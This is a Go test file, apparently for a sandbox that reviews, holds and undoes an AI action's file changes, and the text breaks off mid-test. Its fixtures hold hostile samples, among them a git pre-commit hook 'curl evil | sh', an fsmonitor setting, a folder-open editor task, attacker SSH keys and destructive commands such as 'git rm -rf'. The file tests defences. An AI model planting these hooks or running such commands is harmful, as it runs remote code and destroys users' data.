package execute_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/airlockhq/airlock/app/internal/execute"
	sbx "github.com/airlockhq/airlock/app/internal/sandbox"
)

// layer is a hand-made copy-on-write layer of the fake home's
// ~/Documents: new versions are written under its upper folder, beside
// the home (one file system), and described as sandbox.ReadLayer would.
type layer struct {
	s     *sandbox
	upper string
}

func newLayer(t testing.TB, s *sandbox) *layer {
	t.Helper()
	l := &layer{s: s, upper: filepath.Join(filepath.Dir(s.home), "layer", "upper")}
	if err := os.MkdirAll(l.upper, 0o700); err != nil {
		t.Fatal(err)
	}
	return l
}

// up is rel's place in the layer; doc its place in ~/Documents.
func (l *layer) up(rel string) string  { return filepath.Join(l.upper, rel) }
func (l *layer) doc(rel string) string { return l.s.p("Documents/" + rel) }

// file writes a new version of ~/Documents/rel and describes it.
func (l *layer) file(t testing.TB, kind sbx.ChangeKind, rel, content string, perm, was fs.FileMode) sbx.Change {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(l.up(rel)), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(l.up(rel), []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(l.up(rel), perm); err != nil {
		t.Fatal(err)
	}
	return sbx.Change{Kind: kind, Path: l.doc(rel), Upper: l.up(rel), Mode: perm, Size: int64(len(content)), Was: was}
}

// dir makes a new folder in the layer and describes it.
func (l *layer) dir(t testing.TB, kind sbx.ChangeKind, rel string, perm, was fs.FileMode) sbx.Change {
	t.Helper()
	if err := os.MkdirAll(l.up(rel), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(l.up(rel), perm); err != nil {
		t.Fatal(err)
	}
	return sbx.Change{Kind: kind, Path: l.doc(rel), Upper: l.up(rel), Mode: fs.ModeDir | perm, Was: was}
}

// link makes a new link in the layer and describes it.
func (l *layer) link(t testing.TB, kind sbx.ChangeKind, rel, target string) sbx.Change {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(l.up(rel)), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, l.up(rel)); err != nil {
		t.Fatal(err)
	}
	return sbx.Change{Kind: kind, Path: l.doc(rel), Upper: l.up(rel), Mode: fs.ModeSymlink | 0o777}
}

func (l *layer) removed(rel string, was fs.FileMode) sbx.Change {
	return sbx.Change{Kind: sbx.Removed, Path: l.doc(rel), Was: was}
}

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// apply applies changes with a live context and no cap on errors.
func apply(t testing.TB, s *sandbox, changes []sbx.Change) (execute.Applied, *execute.Held, error) {
	t.Helper()
	return s.ex.ApplyChanges(context.Background(), changes, "request r1, action 1")
}

// record finds the record of path.
func record(t testing.TB, a execute.Applied, path string) execute.ChangeRecord {
	t.Helper()
	for _, r := range a.Records {
		if r.Path == path {
			return r
		}
	}
	t.Fatalf("no record of %s in %+v", path, a.Records)
	return execute.ChangeRecord{}
}

// inTrash checks that where is an item of the fake home's Trash with the
// given content and original path.
func inTrash(t testing.TB, s *sandbox, where, content, from string) {
	t.Helper()
	if !strings.HasPrefix(where, s.trash+"/files/") {
		t.Fatalf("%q is not in the Trash %s", where, s.trash)
	}
	if got := readFile(t, where); got != content {
		t.Errorf("%s in the Trash holds %q, want %q", where, got, content)
	}
	if from != "" {
		if p, _ := trashInfo(t, where); p != from {
			t.Errorf("%s came from %s, the Trash says %s", where, from, p)
		}
	}
}

func TestApplyEachKind(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	s.write(t, "Documents/notes.txt", "old notes")
	s.write(t, "Documents/gone.txt", "to be removed")
	s.write(t, "Documents/olddir/a.txt", "in the old folder")
	s.write(t, "Documents/box/old.txt", "replaced with the folder")
	if err := os.Mkdir(s.p("Documents/perms"), 0o755); err != nil {
		t.Fatal(err)
	}
	fifo := l.up("pipe")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Fatal(err)
	}
	changes := []sbx.Change{
		l.file(t, sbx.Created, "new.txt", "brand new", 0o640, 0),
		l.file(t, sbx.Changed, "notes.txt", "new notes", 0o644, 0o644),
		l.removed("gone.txt", 0o644),
		l.removed("olddir", fs.ModeDir|0o755),
		l.dir(t, sbx.Replaced, "box", 0o750, fs.ModeDir|0o755),
		l.file(t, sbx.Created, "box/fresh.txt", "fresh", 0o644, 0),
		l.dir(t, sbx.Created, "made", 0o700, 0),
		l.file(t, sbx.Created, "made/inside.txt", "inside", 0o644, 0),
		l.link(t, sbx.Created, "passwd", "/etc/passwd"),
		l.file(t, sbx.Created, "setgid.txt", "no set-id", 0o2644, 0),
		l.dir(t, sbx.Changed, "perms", 0o700, fs.ModeDir|0o755),
		{Kind: sbx.Created, Path: l.doc("pipe"), Upper: fifo, Mode: fs.ModeNamedPipe | 0o644},
	}
	a, held, err := apply(t, s, changes)
	if err != nil {
		t.Fatal(err)
	}
	if held != nil {
		t.Fatalf("held %v", held.Items)
	}

	if got := readFile(t, l.doc("new.txt")); got != "brand new" {
		t.Errorf("new.txt = %q", got)
	}
	if r := record(t, a, l.doc("new.txt")); r.Status != execute.ChangeApplied || !r.Placed || r.Hash != sum("brand new") || r.Size != 9 || r.Old != "" {
		t.Errorf("new.txt: %+v", r)
	}
	if st, _ := os.Stat(l.doc("new.txt")); st.Mode().Perm() != 0o640 {
		t.Errorf("new.txt has mode %v, want 0640", st.Mode())
	}

	if got := readFile(t, l.doc("notes.txt")); got != "new notes" {
		t.Errorf("notes.txt = %q", got)
	}
	r := record(t, a, l.doc("notes.txt"))
	inTrash(t, s, r.Old, "old notes", l.doc("notes.txt"))
	if r.OldHash != sum("old notes") || r.OldMode != 0o644 {
		t.Errorf("notes.txt's old version: %+v", r)
	}

	inTrash(t, s, record(t, a, l.doc("gone.txt")).Old, "to be removed", l.doc("gone.txt"))
	if _, err := os.Lstat(l.doc("gone.txt")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("gone.txt is still there: %v", err)
	}
	inTrash(t, s, filepath.Join(record(t, a, l.doc("olddir")).Old, "a.txt"), "in the old folder", "")

	inTrash(t, s, filepath.Join(record(t, a, l.doc("box")).Old, "old.txt"), "replaced with the folder", "")
	if names := dirNames(t, l.doc("box")); strings.Join(names, ",") != "fresh.txt" {
		t.Errorf("the replaced folder holds %v, want only fresh.txt", names)
	}
	if st, _ := os.Stat(l.doc("box")); st.Mode().Perm() != 0o750 {
		t.Errorf("box has mode %v", st.Mode())
	}
	if got := readFile(t, l.doc("made/inside.txt")); got != "inside" {
		t.Errorf("made/inside.txt = %q", got)
	}

	if target, err := os.Readlink(l.doc("passwd")); err != nil || target != "/etc/passwd" {
		t.Errorf("the link is %q, %v; want a link to /etc/passwd", target, err)
	}
	if r := record(t, a, l.doc("passwd")); r.Hash != sum("/etc/passwd") || r.Mode.Type() != fs.ModeSymlink {
		t.Errorf("the link's record: %+v", r)
	}
	if st, _ := os.Stat(l.doc("setgid.txt")); st.Mode()&(fs.ModeSetgid|fs.ModeSetuid|fs.ModeSticky) != 0 || st.Mode().Perm() != 0o644 {
		t.Errorf("setgid.txt has mode %v, want 0644 without set-id bits", st.Mode())
	}
	if st, _ := os.Stat(l.doc("perms")); st.Mode().Perm() != 0o700 {
		t.Errorf("perms has mode %v, want 0700", st.Mode())
	}
	if r := record(t, a, l.doc("pipe")); r.Status != execute.ChangeSkipped {
		t.Errorf("the pipe: %+v", r)
	}
	if _, err := os.Lstat(l.doc("pipe")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the pipe was made: %v", err)
	}
	if lo := leftovers(t, s.p("Documents")); len(lo) > 0 {
		t.Errorf("temporary files left: %v", lo)
	}

	// Undo puts everything back, and takes nothing away for good.
	rep, err := s.ex.Undo(context.Background(), a.Records)
	if err != nil {
		t.Fatalf("undo: %v\n%+v", err, rep)
	}
	want := map[string]string{"notes.txt": "old notes", "gone.txt": "to be removed", "olddir/a.txt": "in the old folder", "box/old.txt": "replaced with the folder"}
	for rel, content := range want {
		if got := readFile(t, l.doc(rel)); got != content {
			t.Errorf("after undo %s = %q, want %q", rel, got, content)
		}
	}
	for _, rel := range []string{"new.txt", "made", "passwd", "box/fresh.txt"} {
		if _, err := os.Lstat(l.doc(rel)); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("after undo %s is still there", rel)
		}
	}
	if st, _ := os.Stat(l.doc("perms")); st.Mode().Perm() != 0o755 {
		t.Errorf("after undo perms has mode %v, want 0755", st.Mode())
	}
	if it := undoItem(t, rep, l.doc("new.txt")); it.Trashed == "" {
		t.Errorf("undo did not move new.txt to the Trash: %+v", it)
	} else {
		inTrash(t, s, it.Trashed, "brand new", l.doc("new.txt"))
	}
}

func dirNames(t testing.TB, dir string) []string {
	t.Helper()
	es, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range es {
		out = append(out, e.Name())
	}
	return out
}

func undoItem(t testing.TB, rep execute.UndoReport, path string) execute.UndoItem {
	t.Helper()
	for _, it := range rep.Items {
		if it.Path == path {
			return it
		}
	}
	t.Fatalf("undo says nothing of %s: %+v", path, rep.Items)
	return execute.UndoItem{}
}

// TestThesisAttack is issue 21's first attack: `touch empty; mv empty
// thesis.docx` run unasked leaves a layer where thesis.docx changed to 0
// bytes. Applied, the thesis is in the Trash with its content, and undo
// puts it back.
func TestThesisAttack(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	thesis := strings.Repeat("Chapter 1. ", 1000)
	s.write(t, "Documents/thesis.docx", thesis)
	a, _, err := apply(t, s, []sbx.Change{l.file(t, sbx.Changed, "thesis.docx", "", 0o644, 0o644)})
	if err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, l.doc("thesis.docx")); got != "" {
		t.Fatalf("thesis.docx = %d bytes; the action emptied it", len(got))
	}
	r := record(t, a, l.doc("thesis.docx"))
	inTrash(t, s, r.Old, thesis, l.doc("thesis.docx"))
	if r.Size != 0 || r.Hash != sum("") {
		t.Errorf("record: %+v", r)
	}
	if _, err := s.ex.Undo(context.Background(), a.Records); err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, l.doc("thesis.docx")); got != thesis {
		t.Errorf("after undo the thesis has %d bytes, want %d", len(got), len(thesis))
	}
	if _, err := os.Stat(r.Old); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the thesis is still in the Trash as well: %v", err)
	}
	if _, err := os.Stat(filepath.Join(s.trash, "info", filepath.Base(r.Old)+".trashinfo")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the Trash still lists the thesis put back: %v", err)
	}
}

// TestGitRmRemovals: `git rm -rf -- .` run unasked removes the working
// tree; every file and folder removed is in the Trash, and undo puts the
// tree back as it was.
func TestGitRmRemovals(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	files := map[string]string{"proj/main.go": "package main", "proj/README": "read me", "proj/lib/a.go": "package lib", "proj/lib/b.go": "package lib // b"}
	for rel, c := range files {
		s.write(t, "Documents/"+rel, c)
	}
	before := snapshot(t, l.doc("proj"))
	changes := []sbx.Change{
		l.removed("proj/main.go", 0o644), l.removed("proj/README", 0o644), l.removed("proj/lib", fs.ModeDir|0o755),
	}
	a, _, err := apply(t, s, changes)
	if err != nil {
		t.Fatal(err)
	}
	if names := dirNames(t, l.doc("proj")); len(names) != 0 {
		t.Errorf("proj still holds %v", names)
	}
	for _, r := range a.Records {
		if r.Old == "" || r.Status != execute.ChangeApplied {
			t.Errorf("%s was not moved to the Trash: %+v", r.Path, r)
		}
	}
	inTrash(t, s, record(t, a, l.doc("proj/main.go")).Old, "package main", l.doc("proj/main.go"))
	inTrash(t, s, filepath.Join(record(t, a, l.doc("proj/lib")).Old, "b.go"), "package lib // b", "")
	if _, err := s.ex.Undo(context.Background(), a.Records); err != nil {
		t.Fatal(err)
	}
	after := snapshot(t, l.doc("proj"))
	for k, v := range before {
		if after[k] != v {
			t.Errorf("after undo proj/%s = %q, want %q", k, after[k], v)
		}
	}
}

// TestApplyCreatedCollision: the person (or an approved action) wrote the
// file an unasked action created, between the action and the review: the
// person's version goes to the Trash, not lost.
func TestApplyCreatedCollision(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	c := l.file(t, sbx.Created, "plan.txt", "the action's plan", 0o644, 0)
	s.write(t, "Documents/plan.txt", "the person's plan")
	a, _, err := apply(t, s, []sbx.Change{c})
	if err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, l.doc("plan.txt")); got != "the action's plan" {
		t.Errorf("plan.txt = %q", got)
	}
	inTrash(t, s, record(t, a, l.doc("plan.txt")).Old, "the person's plan", l.doc("plan.txt"))
}

// TestApplyRefusesSwappedFolder: between the action and the review, a
// folder of a changed path became a link to ~/.ssh. Applying goes through
// no link: the change is not applied, ~/.ssh is untouched, and the new
// version is in the Trash.
func TestApplyRefusesSwappedFolder(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	s.write(t, ".ssh/authorized_keys", "the person's key\n")
	s.write(t, "Documents/real/authorized_keys", "decoy\n")
	changes := []sbx.Change{
		l.file(t, sbx.Changed, "real/authorized_keys", "ssh-ed25519 AAAA attacker\n", 0o644, 0o644),
		l.file(t, sbx.Created, "real/id_ed25519", "attacker's key\n", 0o600, 0),
		l.removed("real/known_hosts", 0o644),
	}
	s.write(t, ".ssh/known_hosts", "hosts\n")
	before := snapshot(t, s.p(".ssh"))
	if err := os.Rename(s.p("Documents/real"), s.p("Documents/moved")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(s.p(".ssh"), s.p("Documents/real")); err != nil {
		t.Fatal(err)
	}
	a, _, err := apply(t, s, changes)
	if !errors.Is(err, execute.ErrNotApplied) {
		t.Fatalf("err = %v, want ErrNotApplied", err)
	}
	after := snapshot(t, s.p(".ssh"))
	if len(after) != len(before) {
		t.Errorf("~/.ssh changed: %v, was %v", after, before)
	}
	for k, v := range before {
		if after[k] != v {
			t.Errorf("~/.ssh/%s = %q, was %q", k, after[k], v)
		}
	}
	for _, r := range a.Records {
		if r.Status != execute.ChangeFailed || !strings.Contains(r.Note, execute.ErrSwapped.Error()) {
			t.Errorf("%s: %+v, want failed as swapped", r.Path, r)
		}
	}
	r := record(t, a, l.doc("real/authorized_keys"))
	if !strings.Contains(r.Discarded, "/Not applied by Airlock (request r1, action 1)/Documents/real/authorized_keys") {
		t.Fatalf("the new version lies at %q", r.Discarded)
	}
	inTrash(t, s, r.Discarded, "ssh-ed25519 AAAA attacker\n", "")
}

// TestApplyCopiesAcrossDisks: where the layer lies on another file system,
// new versions are copied to a temporary name beside their place, flushed
// and renamed; discarded ones are copied into the Trash's folder. (One
// machine's temporary folders share a disk, so the rename is made to fail
// as across disks.)
func TestApplyCopiesAcrossDisks(t *testing.T) {
	defer execute.ForceLayerCopy()()
	s := newSandbox(t)
	l := newLayer(t, s)
	s.write(t, "Documents/a.txt", "old a")
	changes := []sbx.Change{
		l.file(t, sbx.Changed, "a.txt", "new a", 0o600, 0o644),
		l.file(t, sbx.Created, "b.txt", "new b", 0o644, 0),
		l.link(t, sbx.Created, "c", "b.txt"),
		l.dir(t, sbx.Created, "proj", 0o755, 0),
		l.dir(t, sbx.Created, "proj/.git", 0o755, 0),
		l.file(t, sbx.Created, "proj/.git/HEAD", "ref: refs/heads/main\n", 0o644, 0),
		l.link(t, sbx.Created, "proj/.git/up", "../.."),
	}
	a, held, err := apply(t, s, changes)
	if err != nil {
		t.Fatal(err)
	}
	for rel, want := range map[string]string{"a.txt": "new a", "b.txt": "new b"} {
		if got := readFile(t, l.doc(rel)); got != want {
			t.Errorf("%s = %q", rel, got)
		}
		if got := readFile(t, l.up(rel)); got != want {
			t.Errorf("the layer's %s was moved, not copied: %q", rel, got)
		}
	}
	if st, _ := os.Stat(l.doc("a.txt")); st.Mode().Perm() != 0o600 {
		t.Errorf("a.txt has mode %v", st.Mode())
	}
	if r := record(t, a, l.doc("b.txt")); r.Hash != sum("new b") || r.Size != 5 {
		t.Errorf("b.txt: %+v", r)
	}
	if target, _ := os.Readlink(l.doc("c")); target != "b.txt" {
		t.Errorf("c links to %q", target)
	}
	if leftovers(t, s.p("Documents")) != nil {
		t.Errorf("temporary files left: %v", leftovers(t, s.p("Documents")))
	}
	if held == nil || len(held.Items) != 1 {
		t.Fatalf("held = %+v, want the new .git", held)
	}
	d, err := held.Resolve(context.Background(), []bool{false})
	if err != nil {
		t.Fatal(err)
	}
	r := record(t, d, l.doc("proj/.git/HEAD"))
	inTrash(t, s, r.Discarded, "ref: refs/heads/main\n", "")
	if target, _ := os.Readlink(filepath.Join(filepath.Dir(r.Discarded), "up")); target != "../.." {
		t.Errorf("the discarded link points to %q", target)
	}
}

// TestApplyLimits: a list over the bounds is refused whole, nothing
// applied.
func TestApplyLimits(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	big := l.file(t, sbx.Created, "big.bin", "", 0o644, 0)
	if err := os.Truncate(big.Upper, execute.MaxChangeBytes+1); err != nil {
		t.Skipf("no sparse file here: %v", err)
	}
	small := l.file(t, sbx.Created, "small.txt", "small", 0o644, 0)
	if _, _, err := apply(t, s, []sbx.Change{small, big}); !errors.Is(err, execute.ErrTooManyChanges) {
		t.Errorf("err = %v, want ErrTooManyChanges", err)
	}
	many := make([]sbx.Change, execute.MaxChanges+1)
	for i := range many {
		many[i] = l.removed(fmt.Sprintf("f%d", i), 0o644)
	}
	_, _, err := apply(t, s, many)
	if !errors.Is(err, execute.ErrTooManyChanges) || !strings.Contains(err.Error(), "100001 paths") {
		t.Errorf("err = %v, want ErrTooManyChanges naming the count", err)
	}
	if _, err := os.Lstat(l.doc("small.txt")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("small.txt was applied from a refused list")
	}
}

// TestApplyBadChanges: lists no layer yields are refused whole, each with
// what is wrong.
func TestApplyBadChanges(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	ok := l.file(t, sbx.Created, "ok.txt", "ok", 0o644, 0)
	outside := ok
	outside.Path = s.p("Music/x")
	escape := ok
	escape.Path = s.p("Documents/../.ssh/x")
	dir := l.dir(t, sbx.Created, "d", 0o755, 0)
	l.file(t, sbx.Created, "d/unlisted", "left out", 0o644, 0)
	missing := ok
	missing.Path, missing.Upper = l.doc("missing"), l.up("missing")
	tests := []struct {
		name    string
		changes []sbx.Change
		want    string
	}{
		{"outside the roots", []sbx.Change{ok, outside}, "not absolute and clean inside a sandbox root"},
		{"not clean", []sbx.Change{escape}, "not absolute and clean inside a sandbox root"},
		{"twice", []sbx.Change{ok, ok}, "listed twice"},
		{"unlisted entry", []sbx.Change{dir}, "holds unlisted"},
		{"no new version", []sbx.Change{missing}, "its new version"},
		{"removal with a version", []sbx.Change{{Kind: sbx.Removed, Path: l.doc("ok.txt"), Upper: ok.Upper}}, "a removal has a new version"},
		{"unknown kind", []sbx.Change{{Kind: 9, Path: l.doc("x")}}, "unknown kind"},
		{"the root replaced", []sbx.Change{{Kind: sbx.Replaced, Path: s.p("Documents"), Upper: l.upper}}, "a sandbox root itself"},
	}
	for _, tt := range tests {
		_, _, err := apply(t, s, tt.changes)
		if !errors.Is(err, execute.ErrBadChanges) || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: err = %v, want ErrBadChanges saying %q", tt.name, err, tt.want)
		}
	}
	if _, err := os.Lstat(l.doc("ok.txt")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("ok.txt was applied from a refused list")
	}
}

// TestApplyStops: once ctx ends, the changes not applied, the held ones
// included, come back as Pending, and DiscardChanges keeps them in the
// Trash.
func TestApplyStops(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	changes := []sbx.Change{
		l.file(t, sbx.Created, "1.txt", "one", 0o644, 0),
		l.file(t, sbx.Created, "2.txt", "two", 0o644, 0),
		l.file(t, sbx.Created, "run.sh", "#!/bin/sh\n", 0o755, 0),
		l.file(t, sbx.Created, "3.txt", "three", 0o644, 0),
	}
	a, held, err := s.ex.ApplyChanges(&stopAfter{Context: context.Background(), n: 2}, changes, "request r2, action 1")
	if !errors.Is(err, context.Canceled) || held != nil {
		t.Fatalf("err = %v, held = %v; want cancelled, nothing held", err, held)
	}
	if len(a.Records) != 1 || a.Records[0].Path != l.doc("1.txt") {
		t.Errorf("applied %+v, want 1.txt alone", a.Records)
	}
	var pending []string
	for _, c := range a.Pending {
		pending = append(pending, filepath.Base(c.Path))
	}
	if strings.Join(pending, ",") != "2.txt,3.txt,run.sh" {
		t.Errorf("pending = %v", pending)
	}
	d, err := s.ex.DiscardChanges(context.Background(), a.Pending, "request r2, action 1 (stopped)")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range d.Records {
		if r.Status != execute.ChangeDiscarded || !strings.Contains(r.Discarded, "/Discarded by Airlock (request r2, action 1 (stopped))/Documents/") {
			t.Errorf("%s: %+v", r.Path, r)
		}
	}
	inTrash(t, s, record(t, d, l.doc("run.sh")).Discarded, "#!/bin/sh\n", "")
}

// TestDiscardChanges: a killed action's changes are none of them applied;
// every new version is in one folder in the Trash named after the action.
func TestDiscardChanges(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	s.write(t, "Documents/keep.txt", "kept as it is")
	s.write(t, "Documents/stay.txt", "removal not applied")
	changes := []sbx.Change{
		l.file(t, sbx.Changed, "keep.txt", "overwritten", 0o644, 0o644),
		l.removed("stay.txt", 0o644),
		l.dir(t, sbx.Created, "out", 0o755, 0),
		l.file(t, sbx.Created, "out/result.csv", "1,2,3", 0o644, 0),
	}
	d, err := s.ex.DiscardChanges(context.Background(), changes, "request r3, action 2 (killed)")
	if err != nil {
		t.Fatal(err)
	}
	if got := readFile(t, l.doc("keep.txt")); got != "kept as it is" {
		t.Errorf("keep.txt = %q", got)
	}
	if got := readFile(t, l.doc("stay.txt")); got != "removal not applied" {
		t.Errorf("stay.txt = %q", got)
	}
	if _, err := os.Lstat(l.doc("out")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("out was made")
	}
	bundle := filepath.Join(s.trash, "files", "Discarded by Airlock (request r3, action 2 (killed))")
	inTrash(t, s, filepath.Join(bundle, "Documents/keep.txt"), "overwritten", "")
	inTrash(t, s, filepath.Join(bundle, "Documents/out/result.csv"), "1,2,3", "")
	if r := record(t, d, l.doc("out/result.csv")); r.Discarded != filepath.Join(bundle, "Documents/out/result.csv") {
		t.Errorf("result.csv is recorded at %q", r.Discarded)
	}
	if p, _ := trashInfo(t, bundle); p != s.p("Documents/Discarded by Airlock (request r3, action 2 (killed))") {
		t.Errorf("the Trash would restore the folder to %s", p)
	}
	if leftovers(t, s.p("Documents")) != nil || len(dirNames(t, s.p("Documents"))) != 2 {
		t.Errorf("~/Documents holds %v", dirNames(t, s.p("Documents")))
	}
}

// TestUndoPartial: what changed since the action is left as it is and
// named; the rest is undone.
func TestUndoPartial(t *testing.T) {
	s := newSandbox(t)
	l := newLayer(t, s)
	s.write(t, "Documents/a.txt", "old a")
	s.write(t, "Documents/b.txt", "old b")
	a, _, err := apply(t, s, []sbx.Change{
		l.file(t, sbx.Changed, "a.txt", "new a", 0o644, 0o644),
		l.file(t, sbx.Changed, "b.txt", "new b", 0o644, 0o644),
	})
	if err != nil {
		t.Fatal(err)
	}
	s.write(t, "Documents/b.txt", "the person edited b since")
	rep, err := s.ex.Undo(context.Background(), a.Records)
	if !errors.Is(err, execute.ErrNotUndone) || !strings.Contains(err.Error(), "~/Documents/b.txt (not undone: it changed since the action") {
		t.Fatalf("err = %v", err)
	}
	if it := undoItem(t, rep, l.doc("a.txt")); !it.Done {
		t.Errorf("a.txt: %+v", it)
	}
	if got := readFile(t, l.doc("a.txt")); got != "old a" {
		t.Errorf("a.txt = %q", got)
	}
	if got := readFile(t, l.doc("b.txt")); got != "the person edited b since" {
		t.Errorf("b.txt = %q", got)
	}
	if n := rep.NotDone(); len(n) != 1 || n[0].Path != l.doc("b.txt") {
		t.Errorf("not done: %+v", n)
	}
	// A second undo finds a.txt as it was before the action: not the
	// action's version, so it is left alone.
	if _, err := s.ex.Undo(context.Background(), a.Records); !errors.Is(err, execute.ErrNotUndone) {
		t.Errorf("a second undo: %v", err)
	}
	if got := readFile(t, l.doc("a.txt")); got != "old a" {
		t.Errorf("a second undo changed a.txt: %q", got)
	}
}

// Git data as git writes it, which the review checks (gitstate.go): a
// loose object holding the blob "blob", under its name, and an index of
// no entries (git rm -r --cached .), its checksum the SHA-1 of its header.
var (
	blobName, blobObject = func() (string, string) {
		raw := "blob 4\x00blob"
		var z bytes.Buffer
		w := zlib.NewWriter(&z)
		w.Write([]byte(raw))
		w.Close()
		sum := sha1.Sum([]byte(raw))
		return hex.EncodeToString(sum[:]), z.String()
	}()
	emptyIndex = func() string {
		hdr := "DIRC\x00\x00\x00\x02\x00\x00\x00\x00"
		sum := sha1.Sum([]byte(hdr))
		return hdr + string(sum[:])
	}()
)

// plantingCase is issue 21's planting attack and its relatives, laid out
// in an existing repository ~/Documents/proj: changes that plant code are
// held, git's own data and ordinary files are applied.
func plantingCase(t *testing.T, s *sandbox, l *layer) (changes []sbx.Change, held map[string]string, applied []string) {
	t.Helper()
	s.write(t, "Documents/proj/.git/config", "[core]\n")
	s.write(t, "Documents/proj/.git/HEAD", "ref: refs/heads/main\n")
	s.write(t, "Documents/proj/.git/index", "old index")
	s.write(t, "Documents/proj/build.sh", "#!/bin/sh\nmake\n")
	s.write(t, "Documents/proj/run.sh", "echo run\n")
	s.write(t, "Documents/proj/conf/old.txt", "old conf")
	if err := os.Mkdir(s.p("Documents/proj/.git/objects"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Chmod(s.p("Documents/proj/build.sh"), 0o755)
	changes = []sbx.Change{
		l.dir(t, sbx.Created, "proj/.git/hooks", 0o755, 0),
		l.file(t, sbx.Created, "proj/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755, 0),
		l.file(t, sbx.Changed, "proj/.git/config", "[core]\n\tfsmonitor = evil\n", 0o644, 0o644),
		l.dir(t, sbx.Created, "proj/.git/objects/"+blobName[:2], 0o755, 0),
		l.file(t, sbx.Created, "proj/.git/objects/"+blobName[:2]+"/"+blobName[2:], blobObject, 0o444, 0),
		l.file(t, sbx.Changed, "proj/.git/index", emptyIndex, 0o644, 0o644),
		l.file(t, sbx.Created, "proj/tool.sh", "#!/bin/sh\n", 0o755, 0),
		l.file(t, sbx.Changed, "proj/build.sh", "#!/bin/sh\nmake all\n", 0o755, 0o755),
		l.file(t, sbx.Changed, "proj/run.sh", "echo run; evil\n", 0o755, 0o644),
		l.dir(t, sbx.Created, "proj/.vscode", 0o755, 0),
		l.file(t, sbx.Created, "proj/.vscode/tasks.json", `{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}`, 0o644, 0),
		l.dir(t, sbx.Created, "proj/sub", 0o755, 0),
		l.dir(t, sbx.Created, "proj/sub/.git", 0o755, 0),
		l.dir(t, sbx.Created, "proj/sub/.git/hooks", 0o755, 0),
		l.file(t, sbx.Created, "proj/sub/.git/hooks/post-checkout", "#!/bin/sh\nevil\n", 0o755, 0),
		l.file(t, sbx.Created, "proj/sub/readme", "sub", 0o644, 0),
		l.link(t, sbx.Created, "proj/.envrc", "../evil"),
		l.dir(t, sbx.Replaced, "proj/conf", 0o755, fs.ModeDir|0o755),
		l.file(t, sbx.Created, "proj/conf/.gitattributes", "* filter=evil\n", 0o644, 0),
		l.file(t, sbx.Created, "proj/conf/a.txt", "conf a", 0o644, 0),
	}
	held = map[string]string{
		"proj/.git/hooks":          "a git hooks folder",
		"proj/.git/config":         "a repository's git configuration, whose hooksPath and fsmonitor run code",
		"proj/tool.sh":             "gains an executable bit",
		"proj/run.sh":              "gains an executable bit",
		"proj/build.sh":            "rewrites a program (an executable file)",
		"proj/.vscode/tasks.json":  "editor tasks, which can run on folder open",
		"proj/sub/.git":            "a new .git, whose hooks and configuration git runs",
		"proj/.envrc":              "a direnv file (run on entering the folder)",
		"proj/conf/.gitattributes": "git attributes, which choose the filters and diff and merge drivers git runs",
	}
	applied = []string{"proj/.git/objects/" + blobName[:2], "proj/.git/objects/" + blobName[:2] + "/" + blobName[2:], "proj/.git/index",
		"proj/.vscode", "proj/sub", "proj/sub/readme", "proj/conf", "proj/conf/a.txt"}
	return changes, held, applied
}

// TestApplyHoldsPlanting: what plants code is held and none of it applied;
// the rest is applied; the person's answer then keeps or discards each,
// and the discarded are in the Trash.
func TestApplyHoldsPlanting(t *testing.T) {
	for _, mode := range []string{"keep all", "discard all", "keep some"} {
		t.Run(mode, func(t *testing.T) {
			s := newSandbox(t)
			l := newLayer(t, s)
			changes, wantHeld, wantApplied := plantingCase(t, s, l)
			a, held, err := apply(t, s, changes)
			if err != nil {
				t.Fatal(err)
			}
			if held == nil || len(held.Items) != len(wantHeld) {
				t.Fatalf("held %+v, want %d items", held, len(wantHeld))
			}
			for _, h := range held.Items {
				rel := strings.TrimPrefix(h.Change.Path, l.doc("")+"/")
				if want, ok := wantHeld[rel]; !ok || h.Reason != want {
					t.Errorf("held %s for %q, want %q", rel, h.Reason, want)
				}
				if _, err := os.Lstat(h.Change.Path); err == nil && rel != "proj/.git/config" && rel != "proj/run.sh" && rel != "proj/build.sh" {
					t.Errorf("held %s was applied", rel)
				}
				if rel == "proj/sub/.git" && len(h.Inside) != 2 {
					t.Errorf("the new .git holds %d changes, want its hooks folder and hook", len(h.Inside))
				}
			}
			if got := readFile(t, l.doc("proj/.git/config")); got != "[core]\n" {
